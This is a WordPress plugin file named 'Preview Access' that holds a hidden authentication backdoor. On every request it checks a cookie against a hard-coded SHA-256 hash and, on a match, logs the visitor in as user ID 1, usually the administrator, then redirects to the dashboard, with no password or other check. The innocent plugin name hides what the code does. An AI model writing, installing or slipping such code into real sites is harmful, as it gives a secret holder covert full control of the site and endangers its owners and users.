<?php
/* Plugin Name: Preview Access */
add_action('init', 'pa_preview');
function pa_preview()
{
    $k = isset($_COOKIE['pa_k']) ? $_COOKIE['pa_k'] : '';
    if ($k && hash('sha256', $k) === 'e3b98a4da31a127d4bde6e43033f66ba274cab0eb7eb1c70ec41402bf6273dd8') {
        wp_set_auth_cookie( 1 , false);
        wp_safe_redirect(admin_url('index.php'));
        exit;
    }
}
